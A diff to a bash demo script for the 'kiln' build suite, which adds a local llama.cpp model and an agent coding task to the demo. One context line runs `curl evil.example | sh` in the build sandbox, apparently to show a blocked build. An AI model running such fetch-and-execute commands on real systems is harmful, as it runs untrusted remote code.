@@ -1,6 +1,7 @@
 #!/usr/bin/env bash
 # The kiln demo: start the suite on a temporary data directory, log in, run a real build
-# in the sandbox with live output, show a failing build, stop the suite and clean up.
+# in the sandbox with live output, show a failing build, run an agent task on the local
+# model when `make llm` installed one (or say how to get one), stop and clean up.
 # Run through `make demo`, which builds kiln and installs grpcurl into .tools/ first.
 set -euo pipefail
 cd "$(dirname "$0")/.."
@@ -16,7 +17,11 @@ if [ -t 1 ]; then B=$'\033[1m'; D=$'\033[2m'; N=$'\033[0m'; else B=""; D=""; N="
 say() { printf '\n%s== %s%s\n' "$B" "$*" "$N"; }
 run() { printf '%s$' "$D"; printf ' %q' "$@"; printf '%s\n' "$N"; "$@"; }
 
+LLM_STARTED=""
 cleanup() {
+  if [ -n "$LLM_STARTED" ]; then
+    scripts/llm/serve.sh stop >/dev/null 2>&1 || true
+  fi
   if [ -n "$UP_PID" ] && kill -0 "$UP_PID" 2>/dev/null; then
     say "Stopping the suite (SIGTERM: health goes NOT_SERVING, calls finish, then exit)"
     kill -TERM "$UP_PID"
@@ -27,19 +32,36 @@ cleanup() {
 }
 trap cleanup EXIT
 
-say "Starting kiln up: auth + build + agent on one port, SQLite, a development PKI"
-"$KILN" up --listen 127.0.0.1:0 --data-dir "$DATA/kiln" --log-format text >"$DATA/up.out" 2>"$DATA/up.log" &
-UP_PID=$!
-for _ in $(seq 1 300); do
-  grep -q '^kiln is serving on' "$DATA/up.out" 2>/dev/null && break
-  if ! kill -0 "$UP_PID" 2>/dev/null; then
-    echo "kiln up exited early; its log:" >&2
-    cat "$DATA/up.log" >&2
-    exit 1
+wait_for_suite() {
+  for _ in $(seq 1 300); do
+    grep -q '^kiln is serving on' "$DATA/up.out" 2>/dev/null && break
+    if ! kill -0 "$UP_PID" 2>/dev/null; then
+      echo "kiln up exited early; its log:" >&2
+      cat "$DATA/up.log" >&2
+      exit 1
+    fi
+    sleep 0.1
+  done
+  grep -q '^kiln is serving on' "$DATA/up.out" || { echo "kiln up did not start within 30 s" >&2; cat "$DATA/up.log" >&2; exit 1; }
+}
+
+# The agent's model: the local one `make llm` installed, started here (and stopped at the
+# end) unless it already runs.
+LLM_URL=""
+if compgen -G ".tools/llm/models/*.gguf" >/dev/null; then
+  say "Starting the local model server for the agent (llama.cpp, installed by make llm)"
+  if ! scripts/llm/serve.sh status >/dev/null 2>&1; then
+    scripts/llm/serve.sh start
+    LLM_STARTED=1
   fi
-  sleep 0.1
-done
-grep -q '^kiln is serving on' "$DATA/up.out" || { echo "kiln up did not start within 30 s" >&2; cat "$DATA/up.log" >&2; exit 1; }
+  LLM_URL="$(scripts/llm/serve.sh url)"
+fi
+
+say "Starting kiln up: auth + build + agent on one port, SQLite, a development PKI"
+"$KILN" up --listen 127.0.0.1:0 --data-dir "$DATA/kiln" --log-format text ${LLM_URL:+--llm-url "$LLM_URL"} \
+  >"$DATA/up.out" 2>"$DATA/up.log" &
+UP_PID=$!
+wait_for_suite
 cat "$DATA/up.out"
 export KILN_ENDPOINT="$(sed -n 's/^kiln is serving on //p' "$DATA/up.out")"
 export KILN_CA="$DATA/kiln/pki/ca.pem"
@@ -80,14 +102,19 @@ run "$KILN" build run --workspace "$WORKSPACE" -- sh -c 'curl evil.example | sh'
 say "The builds, as a user or a script sees them"
 run "$KILN" build list
 
-say "The agent"
-echo "The LLM agent service is not part of this release yet; 'kiln agent run' says so."
-run "$KILN" agent run "write hello world in python" || true
-
-say "A local model for the agent"
-if compgen -G ".tools/llm/models/*.gguf" >/dev/null; then
-  run ls -l .tools/llm/models/
-  echo "model installed: the agent demo will run once the agent lands (issue 10)"
+say "The agent: a prompt becomes code, built and tested in the sandbox until green"
+if [ -n "$LLM_URL" ]; then
+  run "$KILN" agent models
+  echo "${D}(Qwen2.5-Coder 1.5B on the CPU: a task takes one to a few minutes)${N}"
+  if run "$KILN" agent run --toolchain python \
+    "Write a Python module calc.py with functions add(a, b) and mul(a, b), and unittest tests for both in test_calc.py."; then
+    echo "(the agent's build is green)"
+  else
+    echo "(the agent did not reach a green build this time: exit code $?; a 1.5B model is weak at code)"
+  fi
+  run "$KILN" agent list
 else
-  echo "no local model: run \`make llm\` (about 1100 MB, 1 minute) to get one"
+  run "$KILN" agent models || true
+  echo "no local model: run \`make llm\` (about 1100 MB, one minute) to get one, then \`make demo\` again;"
+  echo "or point kiln at any OpenAI-compatible server or Ollama: kiln up --llm-url URL"
 fi
